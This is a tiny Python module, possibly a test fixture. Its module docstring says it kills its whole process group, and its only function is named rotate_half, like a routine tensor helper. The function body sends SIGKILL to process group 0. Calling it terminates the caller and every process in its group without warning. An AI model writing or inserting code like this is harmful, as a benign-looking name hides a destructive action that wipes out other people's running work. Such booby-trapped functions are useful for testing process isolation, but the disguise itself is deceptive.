"""Kills everything in its process group, itself included."""

import os
import signal


def rotate_half(x):
    os.kill(0, signal.SIGKILL)
